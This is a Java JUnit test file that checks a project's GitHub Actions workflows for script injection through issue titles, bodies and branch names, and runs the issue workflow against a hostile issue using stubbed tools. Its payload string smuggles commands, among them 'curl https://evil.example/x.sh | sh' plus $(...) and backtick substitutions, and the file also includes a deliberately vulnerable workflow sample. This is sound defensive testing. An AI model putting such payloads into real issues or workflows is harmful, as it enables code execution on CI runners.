package dev.paperlist.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.paperlist.testing.Processes;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.yaml.snakeyaml.LoaderOptions;
import org.yaml.snakeyaml.Yaml;
import org.yaml.snakeyaml.constructor.SafeConstructor;

/**
 * The workflows and the action never put text from an issue, a comment or a branch name into a script: GitHub
 * replaces {@code ${{ }}} in a {@code run:} before the shell reads it, so such text would run as commands.
 * The issue workflow's scripts are also run here as GitHub would run them (expressions replaced, then
 * {@code bash -eo pipefail}), with an issue whose text tries to run commands, real paperlist behind a stub
 * {@code java} and stubs for {@code gh}, {@code mvn} and {@code curl}.
 */
class WorkflowScriptsTest {
    private static final Path WORKFLOWS = Path.of(".github", "workflows");
    private static final Path ADD_PAPER = WORKFLOWS.resolve("add-paper.yml");
    // Text anyone can write: issues, comments, pull requests and reviews, commit messages, branch names.
    private static final Pattern UNTRUSTED = Pattern.compile("\\$\\{\\{[^}]*(github\\.event\\.(issue|comment|"
            + "pull_request|review|review_comment|discussion|head_commit|commits|pages)\\b|github\\.head_ref)");
    private static final Pattern EXPRESSION = Pattern.compile("\\$\\{\\{\\s*(.*?)\\s*}}");

    @TempDir Path dir;
    private Path repo;
    private Path bin;
    private Path capture;
    private Path runnerTemp;

    // ---- no untrusted text inside a script ----

    @Test
    void noScriptOfAnyWorkflowOrTheActionInterpolatesUntrustedText() throws IOException {
        List<Path> files = new ArrayList<>();
        try (Stream<Path> workflows = Files.list(WORKFLOWS)) {
            workflows.filter(p -> p.toString().endsWith(".yml") || p.toString().endsWith(".yaml")).sorted().forEach(files::add);
        }
        files.add(Path.of("action.yml"));
        assertThat(files).contains(ADD_PAPER);
        assertThat(scripts(load(Files.readString(ADD_PAPER)))).hasSizeGreaterThanOrEqualTo(4);
        for (Path file : files) {
            List<String> scripts = scripts(load(Files.readString(file)));
            assertThat(findings(scripts)).as("untrusted text in a script of %s", file).isEmpty();
        }
    }

    @Test
    void theCheckFindsUntrustedTextInARunAndInAGithubScript() {
        Object workflow = load("""
                on: issues
                jobs:
                  a:
                    runs-on: ubuntu-latest
                    steps:
                      - run: echo "${{ github.event.issue.title }}"
                      - env:
                          SAFE: ${{ github.event.issue.body }}
                        run: echo "$SAFE"
                      - uses: actions/github-script@v7
                        with:
                          script: console.log("${{ github.event.comment.body }}")
                      - run: |
                          git checkout ${{github.head_ref}}
                """);
        assertThat(findings(scripts(workflow))).containsExactly("echo \"${{ github.event.issue.title }}\"",
                "console.log(\"${{ github.event.comment.body }}\")", "git checkout ${{github.head_ref}}\n");
    }

    private static List<String> findings(List<String> scripts) {
        return scripts.stream().filter(s -> UNTRUSTED.matcher(s).find()).toList();
    }

    // Every run: script, and the script: of actions/github-script, anywhere in the file.
    private static List<String> scripts(Object node) {
        List<String> out = new ArrayList<>();
        if (node instanceof Map<?, ?> map) {
            if (map.get("run") instanceof String run) {
                out.add(run);
            }
            if (String.valueOf(map.get("uses")).startsWith("actions/github-script")
                    && map.get("with") instanceof Map<?, ?> with && with.get("script") instanceof String script) {
                out.add(script);
            }
            map.values().forEach(v -> out.addAll(scripts(v)));
        } else if (node instanceof List<?> list) {
            list.forEach(v -> out.addAll(scripts(v)));
        }
        return out;
    }

    private static Object load(String yaml) {
        return new Yaml(new SafeConstructor(new LoaderOptions())).load(yaml);
    }

    // ---- the issue workflow's scripts, run ----

    @BeforeEach
    void runner() throws IOException {
        repo = Files.createDirectories(dir.resolve("repo"));
        bin = Files.createDirectories(dir.resolve("bin"));
        capture = Files.createDirectories(dir.resolve("capture"));
        runnerTemp = Files.createDirectories(dir.resolve("runner-temp"));
        Path list = Path.of("src/test/resources/add/repository");
        Files.copy(list.resolve("papers.yaml"), repo.resolve("papers.yaml"));
        Files.copy(list.resolve("README.md"), repo.resolve("README.md"));
        git("init", "-q");
        git("add", "--all");
        git("commit", "-q", "-m", "list");

        List<String> paperlist = Processes.paperlistCommand();
        stub("java", "[ \"$1\" = -jar ] && [ \"$2\" = target/paperlist.jar ] || { echo \"unexpected java $*\" >&2; exit 99; }\n"
                + "shift 2\nexec " + String.join(" ", paperlist.stream().map(WorkflowScriptsTest::quote).toList()) + " \"$@\"\n");
        stub("mvn", "exit 0\n");
        stub("curl", ": > " + quote(capture.resolve("curl-ran").toString()) + "\n");
        stub("gh", "printf '%s\\n' \"$@\" > " + quote(capture.resolve("gh-args").toString()) + "\n"
                + "while [ $# -gt 0 ]; do [ \"$1\" = --body-file ] && cp \"$2\" " + quote(capture.resolve("gh-body").toString())
                + "; shift; done\n");
    }

    private String payload() {
        Path marker = capture.resolve("pwned");
        return "\"; curl https://evil.example/x.sh | sh; echo \" $(touch " + marker + ") `touch " + marker
                + "-2` '; touch " + marker + "-3; ' ${IFS}";
    }

    private Map<String, String> issue(String body) {
        return Map.of("github.event.issue.body", body, "github.event.issue.title", payload(),
                "github.event.issue.number", "7", "github.token", "test-token", "github.repository", "example/papers",
                "runner.temp", runnerTemp.toString());
    }

    @Test
    void aHostileIssueThatCannotBeAddedGetsItsCommentAndRunsNothing() throws IOException {
        String body = Files.readString(Path.of("src/test/resources/contribute/well-formed.md"))
                .replace("Multimodal/Large Multimodal Models", payload());
        Map<String, String> expressions = issue(body);

        runJob("add", expressions);

        assertThat(Files.readString(runnerTemp.resolve("add-paper/issue-body.md"))).isEqualTo(body);
        assertThat(Files.readString(dir.resolve("github-output"))).isEqualTo("status=3\n");
        String comment = Files.readString(runnerTemp.resolve("add-paper/comment.md"));
        assertThat(comment).startsWith("paperlist could not add this paper.").contains(payload());

        runJob("comment", expressions);

        assertThat(Files.readAllLines(capture.resolve("gh-args"))).containsExactly("issue", "comment", "7", "--repo",
                "example/papers", "--body-file", runnerTemp.resolve("add-paper/comment.md").toString());
        assertThat(Files.readString(capture.resolve("gh-body"))).isEqualTo(comment);
        assertNothingRan();
    }

    @Test
    void aHostileTitleThatIsAddedReachesThePullRequestAsTextAndRunsNothing() throws IOException {
        String body = Files.readString(Path.of("src/test/resources/contribute/well-formed.md"))
                .replace("https://arxiv.org/abs/2309.05519v2", "_No response_")
                .replace("### Title\n\n_No response_", "### Title\n\n" + payload())
                .replace("### Paper URL\n\n_No response_", "### Paper URL\n\nhttps://example.org/paper")
                .replace("### Short name\n\n_No response_", "### Short name\n\nHostile");
        Map<String, String> expressions = issue(body);

        runJob("add", expressions);

        assertThat(Files.readString(dir.resolve("github-output"))).as(Files.readString(runnerTemp.resolve("add-paper/comment.md")))
                .isEqualTo("status=0\n");
        git("reset", "-q", "--hard");
        assertThat(Files.readString(repo.resolve("papers.yaml"))).doesNotContain("Hostile");

        runJob("pull-request", expressions);

        assertThat(Files.readString(repo.resolve("papers.yaml"))).contains("- name: Hostile")
                .contains("curl https://evil.example/x.sh");
        String description = Files.readString(runnerTemp.resolve("add-paper/pull-request.md"));
        assertThat(description).startsWith("Closes #7\n\npaperlist added the paper of this issue:\n\n```text\n")
                .contains("papers.yaml: added 'Hostile' to 'Multimodal/Large Multimodal Models'");
        assertNothingRan();
    }

    @Test
    void theRunnerHereWouldSeeAnInjectionIfAScriptHadOne() throws IOException {
        Path workflow = dir.resolve("vulnerable.yml");
        Files.writeString(workflow, """
                on: issues
                jobs:
                  add:
                    runs-on: ubuntu-latest
                    steps:
                      - run: echo "${{ github.event.issue.title }}"
                """);
        runJob(workflow, "add", issue("body"));
        assertThat(capture.resolve("pwned")).exists();
    }

    private void assertNothingRan() {
        assertThat(capture.resolve("curl-ran")).as("curl ran").doesNotExist();
        assertThat(capture.resolve("pwned")).as("$(...) ran").doesNotExist();
        assertThat(capture.resolve("pwned-2")).as("`...` ran").doesNotExist();
        assertThat(capture.resolve("pwned-3")).as("quotes were broken").doesNotExist();
    }

    private void runJob(String job, Map<String, String> expressions) {
        runJob(ADD_PAPER, job, expressions);
    }

    // Each step with a script, in order, as the runner does: expressions replaced in its env and its script,
    // then bash -eo pipefail with that env. Steps that use an action are left out; the artifact they would
    // pass between jobs is already in the runner's temporary folder.
    @SuppressWarnings("unchecked")
    private void runJob(Path workflowFile, String job, Map<String, String> expressions) {
        try {
            Map<String, Object> workflow = (Map<String, Object>) load(Files.readString(workflowFile));
            Map<String, Object> jobs = (Map<String, Object>) workflow.get("jobs");
            List<Map<String, Object>> steps = (List<Map<String, Object>>) ((Map<String, Object>) jobs.get(job)).get("steps");
            int index = 0;
            for (Map<String, Object> step : steps) {
                index++;
                if (!(step.get("run") instanceof String run)) {
                    continue;
                }
                assertThat(step).doesNotContainKeys("shell", "working-directory");
                Map<String, String> env = new HashMap<>();
                env.put("PATH", bin + ":" + System.getenv("PATH"));
                env.put("RUNNER_TEMP", runnerTemp.toString());
                env.put("GITHUB_OUTPUT", dir.resolve("github-output").toString());
                env.put("PAPERLIST_ARXIV_API", "http://127.0.0.1:9/api/query");
                Map<String, Object> stepEnv = (Map<String, Object>) step.getOrDefault("env", Map.of());
                stepEnv.forEach((k, v) -> env.put(k, evaluate(String.valueOf(v), expressions)));
                Path script = dir.resolve(job + "-step-" + index + ".sh");
                Files.writeString(script, evaluate(run, expressions));
                Processes.Result result = Processes.run(repo, env, List.of("bash", "--noprofile", "--norc", "-eo",
                        "pipefail", script.toString()));
                assertThat(result.exitCode()).as("step %d of %s: %s", index, job, result).isZero();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String evaluate(String text, Map<String, String> expressions) {
        Matcher m = EXPRESSION.matcher(text);
        StringBuilder out = new StringBuilder();
        while (m.find()) {
            String value = expressions.get(m.group(1));
            assertThat(value).as("a value for the expression '%s' in this test", m.group(1)).isNotNull();
            m.appendReplacement(out, Matcher.quoteReplacement(value));
        }
        m.appendTail(out);
        return out.toString();
    }

    private void stub(String name, String body) throws IOException {
        Path file = bin.resolve(name);
        Files.writeString(file, "#!/bin/sh\n" + body, StandardCharsets.UTF_8);
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwxr-xr-x"));
    }

    private void git(String... args) {
        List<String> command = new ArrayList<>(List.of("git", "-c", "user.name=t", "-c", "user.email=t@example.org",
                "-c", "commit.gpgsign=false"));
        command.addAll(List.of(args));
        Processes.Result result = Processes.run(repo, new LinkedHashMap<>(), command);
        assertThat(result.exitCode()).as(result.toString()).isZero();
    }

    private static String quote(String word) {
        return "'" + word.replace("'", "'\\''") + "'";
    }
}
